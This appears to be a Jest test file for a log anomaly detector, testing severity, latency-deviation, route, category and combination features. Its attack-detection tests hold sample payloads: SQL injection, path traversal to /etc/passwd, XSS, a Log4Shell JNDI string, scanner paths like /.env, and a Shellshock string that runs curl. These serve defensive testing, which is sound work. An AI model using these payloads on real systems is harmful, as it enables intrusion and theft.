import { DetectionError } from '../detection_error';
import { featureSchema, parseDetector, type FeatureDefinition } from '../detector';
import { decodeFeatureEncoding, learnFeatures } from '.';
import type { FeatureEncoder } from './columns/types';
import type { z } from 'zod';

type Log = Record<string, unknown>;
const noise = (i: number): number => ((Math.imul(i + 1, 2_654_435_761) >>> 8) % 100_000) / 100_000;

/** A fast and a slow service; one route in a hundred is not found; nothing fails but two of ten thousand requests. */
const requests: Log[] = Array.from({ length: 10_000 }, (_none, i) => {
  const isSlow = i % 10 === 0;
  return {
    '@timestamp': new Date(Date.UTC(2026, 9, 1) + i * 8_000).toISOString(),
    service: isSlow ? 'report' : 'cart',
    method: isSlow ? 'POST' : 'GET',
    url: isSlow ? `/reports/${i}/pdf` : `/cart/${i}/items?page=${i % 7}`,
    status: i % 5_000 === 17 ? 503 : i % 100 === 3 ? 404 : 200,
    duration_ms: (isSlow ? 20_000 : 20) * Math.exp(0.4 * (noise(i) + noise(i + 7) + noise(i + 31) - 1.5)),
    level: i % 50 === 0 ? 'WARN' : 'INFO',
    user: `user-${i % 40}`,
    host: `host-${i % 40}`,
  };
});
const usual = requests[11];

function learn(...definitions: z.input<typeof featureSchema>[]): FeatureEncoder {
  const parsed = definitions.map((definition): FeatureDefinition => featureSchema.parse(definition));
  const { encoder } = learnFeatures(parsed, requests, { timestampField: '@timestamp' });
  const again = decodeFeatureEncoding(JSON.parse(JSON.stringify(encoder.toJSON())));
  expect(again.encode(requests.slice(0, 200))).toEqual(encoder.encode(requests.slice(0, 200)));
  return encoder;
}
const valueOf = (encoder: FeatureEncoder, change: Log): number =>
  encoder.encode([{ ...usual, ...change }]).values[0];

describe('the severity of a status', () => {
  const encoder = learn({ type: 'severity', field: 'status' });
  it('is 0 for what is fine, low for what clients cause, high for what servers do', () => {
    expect(valueOf(encoder, { status: 200 })).toBe(0);
    expect(valueOf(encoder, { status: 302 })).toBe(0);
    expect(valueOf(encoder, { status: 404 })).toBeGreaterThan(0);
    expect(valueOf(encoder, { status: 503 })).toBeGreaterThan(3 * valueOf(encoder, { status: 404 }));
    expect(valueOf(encoder, { status: 500 })).toBeGreaterThanOrEqual(valueOf(encoder, { status: 503 }));
    expect(valueOf(encoder, { status: '500' })).toBe(valueOf(encoder, { status: 500 }));
  });
  it('reads levels of logs in all their spellings', () => {
    const levels = learn({ type: 'severity', field: 'level' });
    expect(valueOf(levels, { level: 'debug' })).toBe(0);
    expect(valueOf(levels, { level: 'warn' })).toBeGreaterThan(0);
    expect(valueOf(levels, { level: 'ERROR' })).toBeGreaterThan(valueOf(levels, { level: 'WARN' }));
    expect(valueOf(levels, { level: 'FATAL' })).toBeGreaterThan(valueOf(levels, { level: 'err' }));
  });
  it('of a level is little where its status always has it, and much where it has another', () => {
    const by = ['status', 'service', 'method', { route: 'url' }];
    const definition = featureSchema.parse({ type: 'severity', field: 'level', by });
    const logs = requests.map((log) => ({ ...log, level: log.status === 200 ? 'INFO' : 'WARN' }));
    const { encoder: levels } = learnFeatures([definition], logs, { timestampField: '@timestamp' });
    const [ordinary, odd] = [
      { ...usual, status: 404, level: 'WARN' },
      { ...usual, level: 'ERROR' },
    ];
    expect(valueOf(levels, ordinary)).toBeLessThan(0.1);
    expect(valueOf(levels, odd)).toBeGreaterThan(10);
    const [{ comparison }] = levels.explain({ ...ordinary, level: 'ERROR' });
    expect(comparison).toMatchObject({ usual: 'WARN', group: '404 GET /cart/…/items' });
  });
  it('is compared within a group where one is named', () => {
    const grouped = learn({ type: 'severity', field: 'status', by: ['service'] });
    // The service of reports never had one.
    expect(valueOf(grouped, { status: 404, service: 'report' })).toBeGreaterThan(
      valueOf(grouped, { status: 404, service: 'cart' }),
    );
  });
  it('is as surprising as failures that were new to their route were in training', () => {
    // 40 services of 250 logs each, of which 30 failed once: any failure is new where it happens.
    const logs = Array.from({ length: 10_000 }, (_none, i) => ({
      service: `service-${i % 40}`,
      status: i < 30 ? 500 : 200,
    }));
    const parsed = [featureSchema.parse({ type: 'severity', field: 'status', by: ['service'] })];
    const { encoder, watches } = learnFeatures(parsed, logs, { timestampField: '@timestamp' });
    const { leastTail } = watches[0];
    const known = encoder.encode(logs.slice(0, 30)).values;
    const [atNew] = encoder.encode([{ ...logs[39], status: 500 }]).values;
    expect(atNew).toBeGreaterThan(Math.max(...known));
    expect(leastTail!(20 / logs.length)).toBeGreaterThan(Math.max(...known));
    expect(leastTail!(20 / logs.length)).toBeLessThan(1.05 * atNew);
    expect(leastTail!(1e-5)).toBeGreaterThan(atNew);
    expect(leastTail!(0.1)).toBe(0);
  });
  it('is no rarer than all of training can tell, however many groups hold the same logs', () => {
    const rarest = 3 * Math.log((requests.length + 1) / 0.5);
    const nested = learn({ type: 'severity', field: 'status', by: ['service', 'method', { route: 'url' }] });
    const never = { status: 500, service: 'cart', method: 'GET', url: '/cart/7/items?page=1' };
    expect(valueOf(nested, never)).toBeCloseTo(rarest, 3);
    expect(valueOf(nested, { ...never, method: 'PUT' })).toBeLessThan(rarest);
  });
});

describe('a number compared with its service, method and route', () => {
  const by = ['service', 'method', { route: 'url' }];
  const encoder = learn({ type: 'deviation', field: 'duration_ms', by });
  it('finds what is slow for its route, not what is slow among all', () => {
    const slowRoute = { service: 'report', method: 'POST', url: '/reports/77/pdf' };
    expect(valueOf(encoder, { ...slowRoute, duration_ms: 21_000 })).toBe(0);
    expect(valueOf(encoder, { duration_ms: 2_000 })).toBeGreaterThan(2);
    expect(valueOf(encoder, { duration_ms: 20_000 })).toBeGreaterThan(
      valueOf(encoder, { duration_ms: 2_000 }),
    );
  });
  it('takes what is fast for ordinary, since the field is a duration', () => {
    expect(valueOf(encoder, { duration_ms: 0.001 })).toBe(0);
    const both = learn({ type: 'deviation', field: 'duration_ms', by, direction: 'both' });
    expect(valueOf(both, { duration_ms: 0.001 })).toBeLessThan(-2);
  });
  it('borrows from the wider group where a route is new', () => {
    const elsewhere = { service: 'report', method: 'POST', url: '/never/seen' };
    expect(valueOf(encoder, { ...elsewhere, duration_ms: 21_000 })).toBe(0);
    expect(valueOf(encoder, { ...elsewhere, duration_ms: 2_000_000 })).toBeGreaterThan(2);
  });
  it('ignores what it is told to ignore', () => {
    const below = learn({ type: 'deviation', field: 'duration_ms', by, ignore_below: 500 });
    expect(valueOf(below, { duration_ms: 450 })).toBe(0);
    expect(valueOf(below, { duration_ms: 2_000 })).toBeGreaterThan(2);
    const within = learn({ type: 'deviation', field: 'duration_ms', by, ignore_within_percent: 5_000 });
    expect(valueOf(within, { duration_ms: 450 })).toBe(0);
    expect(valueOf(within, { duration_ms: 20_000 })).toBeGreaterThan(2);
  });
});

describe('a number with a direction', () => {
  const clampedTo = (definition: Partial<FeatureDefinition>): ((value: number) => number) => {
    const encoder = learn({ type: 'number', field: 'duration_ms', scale: 'linear', ...definition });
    return (value) => valueOf(encoder, { duration_ms: value });
  };
  it('takes the other side for the median', () => {
    const high = clampedTo({ direction: 'high' });
    expect(high(1)).toBe(high(5));
    expect(high(50_000)).toBeGreaterThan(high(40_000));
    const low = clampedTo({ direction: 'low' });
    expect(low(50_000)).toBe(low(40_000));
    expect(low(1)).toBeLessThan(low(5));
    const both = clampedTo({ direction: 'both' });
    expect(both(1)).toBeLessThan(both(5));
  });
});

describe('a route', () => {
  const encoder = learn({ type: 'route', field: 'url', method: 'method' });
  it('is the same for other ids, and rare where it was not seen', () => {
    expect(valueOf(encoder, { url: '/cart/999/items?page=3' })).toBe(valueOf(encoder, {}));
    expect(valueOf(encoder, { url: '/.env' })).toBeGreaterThan(8);
    expect(valueOf(encoder, { method: 'TRACE' })).toBeGreaterThan(8);
  });

  const names = ['lamp', 'sofa', 'rug', 'desk', 'vase', 'bowl', 'cup', 'fork', 'oven', 'pan'];
  const products = requests.slice(0, 2_000).map((request, i) => ({
    ...request,
    url:
      i % 4 === 0
        ? request.url
        : `/products/${names[i % 10]}-${names[(i >> 4) % 10]}-${names[(i >> 7) % 10]}`,
  }));
  const by = ['service', { route: 'url' }];
  it.each<z.input<typeof featureSchema>>([
    { type: 'route', field: 'url' },
    { type: 'combination', fields: ['method', { route: 'url' }] },
    { type: 'deviation', field: 'duration_ms', by },
    { type: 'severity', field: 'status', by },
  ])('of products that training never held is one that it held, for type $type', (definition) => {
    const { encoder: learned } = learnFeatures([featureSchema.parse(definition)], products, {
      timestampField: '@timestamp',
    });
    const again = decodeFeatureEncoding(JSON.parse(JSON.stringify(learned.toJSON())));
    const rowOf = (url: string): number[] => [
      ...again.encode([{ ...products[1], duration_ms: 900, status: 404, url }]).values,
    ];
    expect(rowOf('/products/never-seen-lamp')).toEqual(rowOf(String(products[1].url)));
    expect(again.encode(products)).toEqual(learned.encode(products));
  });
});

describe('a category whose numbers are masked', () => {
  const agents = requests.map((request, i) => ({ ...request, agent: `Browser/${i % 500}.${i % 7} (X11)` }));
  it('is one value for all versions, and another for another name', () => {
    const definition = featureSchema.parse({
      type: 'category',
      field: 'agent',
      encoding: 'rarity',
      masked: true,
    });
    const { encoder } = learnFeatures([definition], agents, { timestampField: '@timestamp' });
    const unseen = (agent: unknown): number =>
      encoder.encode([{ ...usual, agent }]).values[encoder.columnNames.indexOf('agent.unseen')];
    expect(unseen('Browser/9999.1 (X11)')).toBe(0);
    expect(unseen('Scanner/1.0')).toBe(1);
    expect(unseen(undefined)).toBeNaN();
    expect(encoder.explain({ ...usual, agent: 'Browser/1.2 (X11)' })[0].actual).toContain('Browser/');
  });
});

describe('signs of attacks', () => {
  const encoder = learn({ type: 'attack_signs', field: 'url' });
  it('are none in ordinary URLs, also of routes that are new, and many in attacks', () => {
    expect(valueOf(encoder, {})).toBe(0);
    expect(valueOf(encoder, { url: '/never/seen/before' })).toBe(0);
    for (const attack of [
      "' OR 1=1 --",
      '../../../../etc/passwd',
      '<script>alert(1)</script>',
      '${jndi:ldap://a/b}',
    ]) {
      expect(valueOf(encoder, { url: `/cart/1/items?page=${encodeURIComponent(attack)}` })).toBeGreaterThan(
        1,
      );
    }
  });
  it('are paths that scanners ask for, as the path of a URL and unless training holds them', () => {
    for (const url of [
      '/.env',
      '/shop/.git/config',
      '/%2eenv',
      '/WP-Login.php?a=1',
      'GET /index.php.bak HTTP/1.1',
    ]) {
      expect(valueOf(encoder, { url })).toBeGreaterThan(1);
    }
    for (const url of ['/.environment', '/cart/1/items?page=/wp-admin', '/administration', 'see /wp-admin']) {
      expect(encoder.explain({ ...usual, url })[0].actual).toBe(url);
    }
    expect(valueOf(encoder, { url: '/.environment' })).toBe(0);
    for (const url of ['https://sdk.example.com/v1', 'https://owa.example.com', '/v1/sdk-reference']) {
      expect(encoder.explain({ ...usual, url })[0].actual).toBe(url);
    }
    expect(encoder.explain({ ...usual, url: 'https://a.example/wp-admin' })[0].actual).toMatch(
      /^sensitive path/,
    );
    expect(encoder.explain({ ...usual, url: '/actuator/env' })[0].actual).toBe(
      'sensitive path (/actuator), /actuator/env',
    );
    const visited = requests.map((log, i) => (i % 100 === 0 ? { ...log, url: '/wp-login.php' } : log));
    const definition = featureSchema.parse({ type: 'attack_signs', field: 'url' });
    const { encoder: ofBlog } = learnFeatures([definition], visited, { timestampField: '@timestamp' });
    const signs = (url: string): number => ofBlog.encode([{ ...usual, url }]).values[0];
    expect(signs('/wp-login.php')).toBe(0);
    expect(signs('/.env')).toBeGreaterThan(1);
  });
  it('are patterns alone where texts are written with marks, as user agents are', () => {
    const agents = requests.map((log, i) => ({ ...log, agent: `Mozilla/5.0 (X11; Linux; rv:${i % 90}.0)` }));
    const definition = featureSchema.parse({ type: 'attack_signs', field: 'agent' });
    const { encoder: ofAgents } = learnFeatures([definition], agents, { timestampField: '@timestamp' });
    const signs = (agent: string): number => ofAgents.encode([{ ...usual, agent }]).values[0];
    expect(signs('Browser/9.1 (Phone; U; Model (7); {beta}; (new); $1)')).toBe(0);
    expect(signs('Mozilla/5.0 (compatible; MSIE 6.0; Hydra)')).toBeGreaterThan(1);
    expect(signs('() { :; }; /bin/bash -c "curl http://203.0.113.9/a"')).toBeGreaterThan(1);
  });
});

describe('values that go together', () => {
  const encoder = learn({ type: 'combination', fields: ['user', 'host'] });
  it('stand out where each is known and both never met', () => {
    expect(valueOf(encoder, { user: 'user-3', host: 'host-3' })).toBeLessThan(1);
    expect(valueOf(encoder, { user: 'user-3', host: 'host-4' })).toBeGreaterThan(3);
  });

  const logs = Array.from({ length: 4_000 }, (_, i) => ({
    '@timestamp': i,
    ...(i % 100 < 20 || i === 21 ? {} : { app: `app-${i % 4}` }),
    message: i % 100 < 20 ? `start ${'efgh'[i % 4]}` : `message ${'abcd'[i % 4]}`,
  }));
  const rowOf = (document: Log, change?: (state: object) => void): number[] => {
    const definition = featureSchema.parse({ type: 'combination', fields: ['app', 'message'] });
    const { encoder: learned } = learnFeatures([definition], logs, { timestampField: '@timestamp' });
    const state = JSON.parse(JSON.stringify(learned.toJSON())) as { features: { encoding: object }[] };
    change?.(state.features[0].encoding);
    const again = decodeFeatureEncoding(state);
    const row = [...again.encode([document]).values];
    expect(again.explain(document)[0].unseen === true).toBe(row[1] === 1);
    return row;
  };

  it('stand out for an absence where the others are hardly ever without it, and not for what is rare or new beside it', () => {
    const ofNew = rowOf({ message: 'message z' });
    expect(ofNew[0]).toBeLessThan(2);
    expect(ofNew[1]).toBe(0);
    expect(rowOf({ message: 'start e' })[0]).toBeLessThan(0.1);
    expect(rowOf({ message: 'message b' })[0]).toBeGreaterThan(5);
    expect(rowOf({ message: 'message a' })[0]).toBeGreaterThan(5);
    expect(rowOf({ app: 'app-1', message: 'message a' })[1]).toBe(1);
  });
  it('have a part for a value that most logs lack: what is new beside it is new', () => {
    const events = Array.from({ length: 4_000 }, (_, i) => ({
      '@timestamp': i,
      event: `event-${i % 4}`,
      ...(i % 100 === 0 && { service: `service-${i % 3}` }),
    }));
    const definition = featureSchema.parse({ type: 'combination', fields: ['event', 'service'] });
    const { encoder: learned } = learnFeatures([definition], events, { timestampField: '@timestamp' });
    const unseen = (event: string): number =>
      learned.encode([{ '@timestamp': 0, event }]).values[
        learned.columnNames.findIndex((name) => name.endsWith('.unseen'))
      ];
    expect(unseen('event-1')).toBe(0);
    expect(unseen('event-9')).toBe(1);
  });
  it('have a missing part for a value in models of before', () => {
    const row = rowOf({ message: 'message z' }, (state) => {
      delete (state as { absence_alone?: unknown }).absence_alone;
    });
    expect(row[0]).toBeGreaterThan(5);
    expect(row[1]).toBe(1);
  });
});

describe('settings of a feature', () => {
  const detectorWith = (feature: object): (() => unknown) => {
    return () => parseDetector({ name: 'x', source: { index: 'logs' }, features: [feature] });
  };
  it.each<[object, RegExp]>([
    [{ type: 'combination', fields: ['a'] }, /features\.0\.fields/],
    [{ type: 'combination' }, /must be given for type combination/],
    [{ type: 'route' }, /features\.0\.field: must be given/],
    [
      { type: 'category', field: 'a', direction: 'high' },
      /direction: is only for type number, deviation, message_numbers, text; type is category/,
    ],
    [{ type: 'number', field: 'a', codes: 'http' }, /codes: is only for type severity/],
    [
      { type: 'text', field: 'a', masks: [{ name: 'id', regex: 'x' }] },
      /masks: is only for type template; type is text/,
    ],
    [{ type: 'deviation', field: 'a' }, /by: must be given for type deviation/],
    [{ type: 'deviation', field: 'a', by: [] }, /features\.0\.by/],
  ])('%j is refused with its name', (feature, words) => {
    expect(detectorWith(feature)).toThrow(DetectionError);
    expect(detectorWith(feature)).toThrow(words);
  });
});
